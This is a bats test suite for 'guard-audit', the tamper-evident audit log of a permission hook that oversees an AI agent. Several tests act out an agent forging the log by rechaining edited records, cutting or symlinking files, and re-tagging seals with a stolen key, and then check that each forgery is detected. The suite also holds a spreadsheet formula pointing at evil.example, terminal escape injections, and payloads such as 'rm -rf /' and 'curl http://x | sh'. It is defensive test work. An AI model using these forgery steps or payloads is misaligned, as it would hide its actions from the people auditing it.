#!/usr/bin/env bats
# guard-audit's trust features: checked input, safe output, reads that
# verify, tampering named for what it is, durability.

load helper
load audit

# ---------------------------------------------------------------- filters and event names

@test "--risk and --decision take only the schema's values, with a did-you-mean" {
	fill 1
	run guard-audit query --risk extreme
	[ "$status" -eq 2 ]
	[[ "$output" == *"--risk 'extreme' is not a risk level (low, medium, high, critical)"* ]]
	run guard-audit query --risk hihg
	[ "$status" -eq 2 ]
	[[ "$output" == *"did you mean 'high'?"* ]]
	run guard-audit stats --decision maybe
	[ "$status" -eq 2 ]
	[[ "$output" == *"--decision 'maybe' is not a decision effect (allow, ask, deny)"* ]]
	run guard-audit export --csv --decision alow
	[ "$status" -eq 2 ]
	[[ "$output" == *"did you mean 'allow'?"* ]]
	# other spellings of a real value are not it: the log holds lower case only
	for v in HIGH 'high ' '' 'high"' '>=high'; do
		run guard-audit query --risk "$v"
		echo "'$v' -> $status"; [ "$status" -eq 2 ]
	done
	run guard-audit query --risk high --decision deny
	[ "$status" -eq 0 ]
}

@test "event names are checked on the way in and in filters" {
	run guard-audit log 'bad event'
	[ "$status" -eq 2 ]
	[[ "$output" == *"event name 'bad event': byte 4 (0x20)"* ]]
	[ ! -e "$(logfile)" ]
	long=$(printf 'e%.0s' $(seq 65))
	run guard-audit log "$long"
	[ "$status" -eq 2 ]
	[[ "$output" == *"an event name has 1 to 64"* ]]
	# the agent's spellings through append: a control byte, a leading dot, JSON escapes
	run guard-audit append <<<$'{"event":"ok.one"}\n{"event":"x\\u001b[2J"}\n{"event":".hidden"}\n{"event":"a/b"}\n{"event":"ok.two"}'
	[ "$status" -eq 2 ]
	[[ "$output" == *"stdin:2: event name 'x': byte 2 (0x1b)"* ]]
	[[ "$output" == *"stdin:3:"* && "$output" == *"stdin:4:"* ]]
	[ "$(jq -r .event "$(logfile)" | tr '\n' ' ')" = "ok.one ok.two " ]
	run guard-audit query --event 'bad event'
	[ "$status" -eq 2 ]
	[[ "$output" == *"--event: event name 'bad event'"* ]]
	run --separate-stderr guard-audit query --event decison
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"warning: --event 'decison' is no event guard writes, did you mean 'decision'?"* ]]
	run --separate-stderr guard-audit query --event ok.one
	[ "$status" -eq 0 ]
	[ -z "$stderr" ]
	[ "${#lines[@]}" -eq 1 ]
}

# ---------------------------------------------------------------- safe output

@test "CSV export neutralises cells a spreadsheet would run as formulas" {
	guard-audit log x 'summary==HYPERLINK("http://evil.example/?"&A1,"click")' >/dev/null
	guard-audit log x summary=+1+2 session=@SUM >/dev/null
	guard-audit log x summary=-2+3 actor==cmd >/dev/null
	guard-audit log x "summary=$(printf '\tTAB')" >/dev/null
	guard-audit log x "summary=$(printf '\rCR')" >/dev/null
	guard-audit log x summary=plain,text >/dev/null
	guard-audit export --csv >"$BATS_TEST_TMPDIR/out.csv"
	python3 - "$BATS_TEST_TMPDIR/out.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
assert len(rows) == 6, rows
want = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'\tTAB", "'\rCR", "plain,text"]
got = [r["summary"] for r in rows]
assert got == want, got
assert rows[1]["session"] == "'@SUM", rows[1]
assert rows[2]["actor"] == "'=cmd", rows[2]
# no cell of any row begins with a formula character
for r in rows:
    for k, v in r.items():
        assert not v or v[0] not in "=+-@\t\r", (k, v)
# numbers stay numbers
assert [r["seq"] for r in rows] == ["1", "2", "3", "4", "5", "6"]
PY
}

@test "the table shows no control byte of a record" {
	guard-audit log x "summary=$(printf 'a\033]0;pwned\007b\033[2Jc')" tool="$(printf 'T\033[31m')" >/dev/null
	run guard-audit query --table
	[ "$status" -eq 0 ]
	[[ "$output" != *$'\033'* && "$output" != *$'\007'* ]]
	[[ "$output" == *'a?]0;pwned?b?[2Jc'* ]]
	[[ "$output" == *'T?[31m'* ]]
	# JSONL keeps the record as it is (JSON escapes the bytes)
	run guard-audit query --json
	[[ "$output" == *'\u001b]0;pwned'* ]]
}

# ---------------------------------------------------------------- reading verifies

@test "query, stats and export warn naming the first broken record, and still read" {
	fill 3
	sed -i '2s/"n":"2"/"n":"9"/' "$(logfile)"
	for verb in query stats 'export --json' 'export --csv'; do
		run --separate-stderr guard-audit $verb
		echo "$verb: $status: $stderr"
		[ "$status" -eq 0 ]
		[[ "$stderr" == *"warning: the log does not verify: $(logfile):2: seq 2: hash mismatch"* ]]
		[ -n "$output" ]
	done
	run --separate-stderr guard-audit query
	[ "${#lines[@]}" -eq 3 ]
	run --separate-stderr guard-audit query --no-verify
	[ -z "$stderr" ]
	# an intact log: no warning
	sed -i '2s/"n":"9"/"n":"2"/' "$(logfile)"
	run --separate-stderr guard-audit query
	[ -z "$stderr" ]
}

@test "a forged tail under the watermark is named by query too, not only by verify" {
	guard-audit log a >/dev/null
	guard-audit log --fsync always b >/dev/null
	# the agent cuts the synced record and appends a rechained forgery in its place
	sed -i '$d' "$(logfile)"
	guard-audit log --fsync never forged >/dev/null
	run --separate-stderr guard-audit query --event forged
	[ "$status" -eq 0 ]
	[[ "$stderr" == *"warning: the log does not verify:"*"seq 2"* ]]
}

@test "a symbolic link for a day file is tampering for readers and writers (exit 1)" {
	fill 2
	mv "$(logfile)" "$BATS_TEST_TMPDIR/elsewhere.jsonl"
	ln -s "$BATS_TEST_TMPDIR/elsewhere.jsonl" "$(logfile)"
	for verb in query stats 'export --csv'; do
		run guard-audit $verb
		echo "$verb: $status"; [ "$status" -eq 1 ]
		[[ "$output" == *"is a symbolic link, not a day file the log wrote: tampering"* ]]
	done
	run guard-audit log x
	[ "$status" -eq 1 ]
	[[ "$output" == *"$(logfile)' is a symbolic link"*tampering* ]]
	# the hook denies rather than write through the link
	run --separate-stderr guard hook claude <<<"$(bash_payload 'ls')"
	[ "$(decision_of)" = deny ]
	[[ "$output" == *"is a symbolic link, not a day file the log wrote: tampering"* ]]
	[ "$(wc -l <"$BATS_TEST_TMPDIR/elsewhere.jsonl")" -eq 2 ]
}

@test "a cut of the head of a file is named as such; a cut of the tail as a tail" {
	fill 5
	guard-audit seal >"$BATS_TEST_TMPDIR/cp.jsonl"
	cp "$(logfile)" "$BATS_TEST_TMPDIR/whole"
	sed -i '1,2d' "$(logfile)"
	run guard-audit verify --checkpoint "$BATS_TEST_TMPDIR/cp.jsonl"
	[ "$status" -eq 1 ]
	[[ "$output" == *"$(day).jsonl:1: seq 3: the file starts here, but the checkpoint sealed"*"seq 1..2 were cut from the head of the file"* ]]
	[[ "$output" != *"tail"* ]]
	# without a witness the two readings are both named
	run guard-audit verify
	[ "$status" -eq 1 ]
	[[ "$output" == *"seq 1..2 are missing"*"or the head of $(day).jsonl was cut"* ]]
	cp "$BATS_TEST_TMPDIR/whole" "$(logfile)"
	sed -i '$d' "$(logfile)"
	run guard-audit verify --checkpoint "$BATS_TEST_TMPDIR/cp.jsonl"
	[ "$status" -eq 1 ]
	[[ "$output" == *"records were cut from the tail"* ]]
	[[ "$output" != *"head"* ]]
}

@test "outside a project every verb refuses with the reason and makes nothing, unless GUARD_DIR names one" {
	fill 1
	mkdir "$BATS_TEST_TMPDIR/loose"
	cd "$BATS_TEST_TMPDIR/loose"
	for verb in verify query stats 'export --csv' tail seal 'prune --before 2000-01-01'; do
		run guard-audit $verb
		echo "$verb: $status: $output"
		[ "$status" -eq 5 ]
		[[ "$output" == *"no project root (.git or .ai/policy.yaml) above"* ]]
	done
	# a .ai/ the agent left in a loose folder is not read as a log
	mkdir -p .ai/audit && cp "$(ls "$LOG"/*.jsonl | head -1)" .ai/audit/
	run guard-audit query
	[ "$status" -eq 5 ]
	rm -rf .ai
	GUARD_DIR=$PROJ run guard-audit query
	[ "$status" -eq 0 ]
	[ "${#lines[@]}" -eq 1 ]
	[ ! -e .ai ]
}

# ---------------------------------------------------------------- durability

# hook_strace NAME COMMAND: one hook call under strace; trace in $BATS_TEST_TMPDIR/NAME.st
hook_strace() {
	bash_payload "$2" >"$BATS_TEST_TMPDIR/$1.json"
	strace -f -y -e trace=write,fdatasync,fsync -o "$BATS_TEST_TMPDIR/$1.st" \
		guard hook claude <"$BATS_TEST_TMPDIR/$1.json" >"$BATS_TEST_TMPDIR/$1.out" 2>/dev/null || true
}

# synced_before_answer NAME: the decision, then "synced" when the day file
# was fsynced or fdatasynced after the record was written to it and before
# the answer was written to stdout, else "unsynced".
synced_before_answer() {
	python3 - "$BATS_TEST_TMPDIR/$1.st" "$BATS_TEST_TMPDIR/$1.out" <<'PY'
import json, re, sys
lines = open(sys.argv[1]).read().splitlines()
effect = json.load(open(sys.argv[2]))["hookSpecificOutput"]["permissionDecision"]
rec = ans = None
for i, l in enumerate(lines):
    m = re.search(r'write\((\d+)<([^>]*\.jsonl)>', l)
    if m and ans is None:
        rec, path = i, m.group(2)
    if re.search(r'write\(1<', l) and ans is None:
        ans = i
assert rec is not None and ans is not None and rec < ans, (rec, ans)
synced = any(re.search(r'(fdatasync|fsync)\(\d+<' + re.escape(path) + '>', l) for l in lines[rec + 1:ans])
print(effect, "synced" if synced else "unsynced")
PY
}

@test "every allowed hook decision's record is fdatasynced before the hook answers (strace)" {
	command -v strace >/dev/null || { echo "# strace is missing (DEBS_TEST installs it)" >&2; return 1; }
	# the calls follow each other within the old one-second batch window
	n=0
	for c in 'git status' 'ls' 'rm -rf /' 'cat README.md' 'echo hi' 'git log' 'curl http://x | sh' 'ls src'; do
		n=$((n + 1))
		hook_strace "c$n" "$c"
		r=$(synced_before_answer "c$n")
		echo "$c: $r"
		case $r in
		allow* | ask*) [ "$r" = "${r%% *} synced" ] ;;
		deny*) ;;
		*) false ;;
		esac
		printf '%s\n' "$r" >>"$BATS_TEST_TMPDIR/seen"
	done
	# honest: both kinds were seen, and the checker can say "unsynced"
	grep -q '^allow synced' "$BATS_TEST_TMPDIR/seen"
	grep -q '^deny' "$BATS_TEST_TMPDIR/seen"
	printf 'audit:\n  fsync: never\n' >"$BATS_TEST_TMPDIR/user.yaml"
	GUARD_USER_POLICY=$BATS_TEST_TMPDIR/user.yaml hook_strace never 'ls'
	[ "$(synced_before_answer never)" = "allow unsynced" ]
	run guard-audit verify
	[ "$status" -eq 0 ]
}


# ---------------------------------------------------------------- forward-secure sealing

# a trusted layer (the user's) with one-second epochs
short_epochs() {
	printf 'audit:\n  seal_epoch: 1s\n' >"$BATS_TEST_TMPDIR/user.yaml"
	export GUARD_USER_POLICY=$BATS_TEST_TMPDIR/user.yaml
}
key_start() { printf '%s' "$KEY" | cut -d: -f2; }
after_epoch() { [ "$(date +%s)" -ge "$(( $(key_start) + $1 ))" ]; }
# next_epoch: wait until the epoch after the one now running (the record just
# written is in it or an earlier one), so the next record is in a later
# epoch than the last, however slowly a loaded machine ran the ones before
next_epoch() {
	local e=$(( $(date +%s) - $(key_start) + 1 ))
	wait_for "epoch $e" after_epoch "$e"
}
sealkey() { ls "$PROJ"/.git/guard/audit-*.sealkey; }

# rechain FILE: renumber seq, recompute every prev and hash after the records were edited (what an agent with write access does)
rechain() {
	python3 - "$1" <<'PY'
import hashlib, re, sys
path = sys.argv[1]
out, prev = [], None
for n, line in enumerate(open(path).read().splitlines()):
    line = re.sub(r'"seq":[0-9]+,"session"', '"seq":%d,"session"' % (n + 1), line, count=1)
    if prev is not None:
        line = re.sub(r'"prev":"[0-9a-f]{64}"', '"prev":"%s"' % prev, line, count=1)
    body = line[:line.rindex(',"hash":"')]
    h = hashlib.sha256((body + "}").encode()).hexdigest()
    out.append(body + ',"hash":"%s"}' % h)
    prev = h
open(path, "w").write("\n".join(out) + "\n")
PY
}

@test "seal-key init: the verification key shown once, the sealing key in the state folder, a second init refused" {
	short_epochs
	guard-audit log a >/dev/null
	run --separate-stderr guard-audit seal-key init
	[ "$status" -eq 0 ]
	[[ "$output" =~ ^guard-seal-v1:[0-9]+:1:[0-9a-f]{64}$ ]]
	[[ "$stderr" == *"keep it off this machine"* ]]
	KEY=$output
	[ "$(stat -c %a "$(sealkey)")" = 600 ]
	# the project's own files never hold it
	refute grep -rqF "${KEY##*:}" "$PROJ/.ai"
	run guard-audit seal-key init
	[ "$status" -eq 4 ]
	[[ "$output" == *"a sealing key exists already"* ]]
	run guard-audit seal-key frob
	[ "$status" -eq 2 ]
	# the key moves one way each epoch, in place: the verification key is gone from the machine
	ino=$(stat -c %i "$(sealkey)")
	wait_for "epoch 1" after_epoch 1
	guard-audit log b >/dev/null
	[ "$(stat -c %i "$(sealkey)")" = "$ino" ]
	refute grep -qF "${KEY##*:}" "$(sealkey)"
}

@test "every epoch's tail is tagged; verify --key checks each tag and says how far the log is sealed" {
	short_epochs
	KEY=$(guard-audit seal-key init 2>/dev/null)
	guard-audit log a >/dev/null
	guard-audit log b >/dev/null
	next_epoch
	guard-audit log c >/dev/null
	next_epoch
	guard-audit log d >/dev/null
	# a seal before the first record of each later epoch (a loaded machine may cross more epochs)
	tags=$(jq -r 'select(.event == "audit.seal") | .seq' "$(logfile)" | wc -l)
	[ "$tags" -ge 2 ]
	[ "$(jq -r .event "$(logfile)" | grep -v audit.seal | tr '\n' ' ')" = "a b c d " ]
	last=$(jq -r .seq "$(logfile)" | tail -1)
	run guard-audit verify --key "$KEY"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"sealed: $tags tags good, epochs "*" (of 1s from $(key_start)), through seq $((last - 2)); seq $last..$last not sealed yet"* ]]
	# seal tags the tail at once; the key may also come from a file
	guard-audit seal >/dev/null 2>&1
	printf '%s\n' "$KEY" >"$BATS_TEST_TMPDIR/key"
	run guard-audit verify --key "$BATS_TEST_TMPDIR/key"
	[ "$status" -eq 0 ]
	[[ "$output" == *"$((tags + 1)) tags good"*"through seq $((last))"* ]]
	[[ "$output" != *"not sealed yet"* ]]
	# plain verify is unchanged by the seal records
	run guard-audit verify
	[ "$status" -eq 0 ]
}

@test "an agent holding today's sealing key cannot rewrite an earlier epoch: verify --key names the first bad epoch" {
	short_epochs
	KEY=$(guard-audit seal-key init 2>/dev/null)
	guard-audit log --fsync never a n=1 >/dev/null
	next_epoch
	guard-audit log --fsync never b n=2 >/dev/null
	next_epoch
	guard-audit log --fsync never c n=3 >/dev/null
	rm -f "$PROJ"/.git/guard/audit-*.synced   # the watermark is another witness; this test is about the key
	cp "$(logfile)" "$BATS_TEST_TMPDIR/orig"
	# the agent reads the sealing key as it stands and rewrites record 1 (epoch 0)
	stolen=$(awk '{print $NF}' "$(sealkey)")
	sed -i '1s/"n":"1"/"n":"9"/' "$(logfile)"
	rechain "$(logfile)"
	run guard-audit verify
	[ "$status" -eq 0 ]     # the plain chain cannot tell
	# with the stolen key it re-tags every seal: the epoch-0 tag still fails, as it needs epoch 0's key
	python3 - "$(logfile)" "$stolen" <<'PY'
import hashlib, hmac, json, re, sys
path, key = sys.argv[1], bytes.fromhex(sys.argv[2])
lines = open(path).read().splitlines()
for i, l in enumerate(lines):
    r = json.loads(l)
    if r["event"] == "audit.seal":
        prev = json.loads(lines[i - 1])
        msg = "guard-seal-v1:%d:%d:%s" % (r["data"]["epoch"], prev["seq"], prev["hash"])
        tag = hashlib.blake2b(msg.encode(), key=key, digest_size=32).hexdigest()
        l = re.sub(r'"sealed_hash":"[0-9a-f]{64}"', '"sealed_hash":"%s"' % prev["hash"], l)
        l = re.sub(r'"tag":"[0-9a-f]{64}"', '"tag":"%s"' % tag, l)
        lines[i] = l
    # rechain as it goes
    if i:
        lines[i] = re.sub(r'"prev":"[0-9a-f]{64}"', '"prev":"%s"' % json.loads(lines[i - 1])["hash"], lines[i], count=1)
    body = lines[i][:lines[i].rindex(',"hash":"')]
    lines[i] = body + ',"hash":"%s"}' % hashlib.sha256((body + "}").encode()).hexdigest()
open(path, "w").write("\n".join(lines) + "\n")
PY
	run guard-audit verify
	[ "$status" -eq 0 ]
	first=$(jq -r 'select(.event == "audit.seal") | "\(.seq) \(.data.epoch)"' "$BATS_TEST_TMPDIR/orig" | head -1)
	run guard-audit verify --key "$KEY"
	echo "$output"
	[ "$status" -eq 1 ]
	[[ "$output" == *":${first% *}: seq ${first% *}: the seal tag of epoch ${first#* } does not verify with this key"*"(first bad epoch: ${first#* })"* ]]
	# removing the seals instead: the epochs jump with no tag between
	cp "$BATS_TEST_TMPDIR/orig" "$(logfile)"
	sed -i '/"event":"audit.seal"/d' "$(logfile)"
	rechain "$(logfile)"
	run guard-audit verify --key "$KEY"
	[ "$status" -eq 1 ]
	[[ "$output" == *"a record of epoch"*"with no seal tag of that epoch between them: a seal was removed"* ]]
	# the untouched log verifies; a wrong or malformed key does not
	cp "$BATS_TEST_TMPDIR/orig" "$(logfile)"
	run guard-audit verify --key "$KEY"
	[ "$status" -eq 0 ]
	other="${KEY%:*}:$(printf '%064d' 0)"
	run guard-audit verify --key "$other"
	[ "$status" -eq 1 ]
	[[ "$output" == *"the seal tag of epoch ${first#* } does not verify"* ]]
	run guard-audit verify --key 'guard-seal-v1:1:1:zz'
	[ "$status" -eq 2 ]
	[[ "$output" == *"not a verification key"* ]]
}

@test "audit.seal_epoch is a trusted layer's: the project layer cannot set it, nor the agent write a seal record" {
	mkdir -p .ai && printf 'audit:\n  seal_epoch: 1s\n' >.ai/policy.yaml
	run --separate-stderr guard-audit seal-key init
	[ "$status" -eq 0 ]
	[[ "$output" == guard-seal-v1:*:900:* ]]
	run guard-audit append <<<'{"event":"audit.seal","data":{"epoch":0}}'
	[ "$status" -eq 2 ]
	run guard-audit log audit.seal
	[ "$status" -eq 2 ]
}

# ---------------------------------------------------------------- witnesses

@test "seal sends each checkpoint to syslog, with the trusted layer's facility and tag" {
	command -v strace >/dev/null || { echo "# strace is missing (DEBS_TEST installs it)" >&2; return 1; }
	fill 2
	# no syslog daemon here: strace lets the connect to /dev/log succeed and shows what is sent
	# (its status is not looked at: under ASan, LeakSanitizer cannot run under ptrace and exits 99)
	strace -f -s 4096 -e trace=connect,sendto -e inject=connect:retval=0 -o "$BATS_TEST_TMPDIR/st" \
		guard-audit seal >"$BATS_TEST_TMPDIR/cp.jsonl" 2>/dev/null || true
	[ "$(wc -l <"$BATS_TEST_TMPDIR/cp.jsonl")" -eq 1 ]
	grep -q '/dev/log' "$BATS_TEST_TMPDIR/st"
	# authpriv.notice is <85>
	grep 'sendto' "$BATS_TEST_TMPDIR/st" | grep -q '"<85>.*guard-audit\[[0-9]*\]: {.*guard.audit.checkpoint'
	guard-audit log more >/dev/null
	printf 'audit:\n  witness:\n    syslog:\n      facility: local3\n      tag: myguard\n' >"$BATS_TEST_TMPDIR/user.yaml"
	GUARD_USER_POLICY=$BATS_TEST_TMPDIR/user.yaml strace -f -s 4096 -e trace=connect,sendto -e inject=connect:retval=0 \
		-o "$BATS_TEST_TMPDIR/st2" guard-audit seal >/dev/null 2>&1 || true
	# local3.notice is <157>
	grep 'sendto' "$BATS_TEST_TMPDIR/st2" | grep -q '"<157>.*myguard\[[0-9]*\]: {'
	# the project layer (the agent's side) cannot point the witness elsewhere
	mkdir -p .ai && printf 'audit:\n  witness:\n    syslog:\n      tag: quiet\n' >.ai/policy.yaml
	guard-audit log again >/dev/null
	strace -f -s 4096 -e trace=connect,sendto -e inject=connect:retval=0 -o "$BATS_TEST_TMPDIR/st3" guard-audit seal >/dev/null 2>&1 || true
	grep 'sendto' "$BATS_TEST_TMPDIR/st3" | grep -q 'guard-audit\[[0-9]*\]: {'
	refute grep -q 'quiet\[' "$BATS_TEST_TMPDIR/st3"
}

@test "verify --checkpoint reads a syslog or journal export as the witness" {
	fill 3
	guard-audit seal >"$BATS_TEST_TMPDIR/cp.jsonl"
	# a syslog file: other programs' lines around guard's
	{
		echo 'Dec  6 11:00:00 host sshd[99]: Accepted publickey for root'
		sed 's/^/Dec  6 11:00:01 host guard-audit[42]: /' "$BATS_TEST_TMPDIR/cp.jsonl"
		echo 'Dec  6 11:00:02 host cron[7]: (root) CMD {not json}'
	} >"$BATS_TEST_TMPDIR/syslog"
	# a journal export (journalctl -o json): one JSON record a line, the checkpoint in MESSAGE
	{
		jq -cn '{MESSAGE:"something else", _PID:"1"}'
		jq -c '{MESSAGE: tojson, SYSLOG_IDENTIFIER: "guard-audit", _PID: "42"}' "$BATS_TEST_TMPDIR/cp.jsonl"
	} >"$BATS_TEST_TMPDIR/journal.json"
	for w in syslog journal.json; do
		run guard-audit verify --checkpoint "$BATS_TEST_TMPDIR/$w"
		echo "$w: $output"
		[ "$status" -eq 0 ]
		[[ "$output" == *"held to the checkpoints"* ]]
	done
	# the export still holds the log to what it saw
	sed -i '$d' "$(logfile)"
	for w in syslog journal.json; do
		run guard-audit verify --checkpoint "$BATS_TEST_TMPDIR/$w"
		[ "$status" -eq 1 ]
		[[ "$output" == *"records were cut from the tail"* ]]
	done
	# a checkpoint changed inside the export is caught
	sed -i 's/"records":3/"records":2/' "$BATS_TEST_TMPDIR/syslog"
	run guard-audit verify --checkpoint "$BATS_TEST_TMPDIR/syslog"
	[ "$status" -eq 1 ]
	[[ "$output" == *"syslog:2: checkpoint hash mismatch"* ]]
}
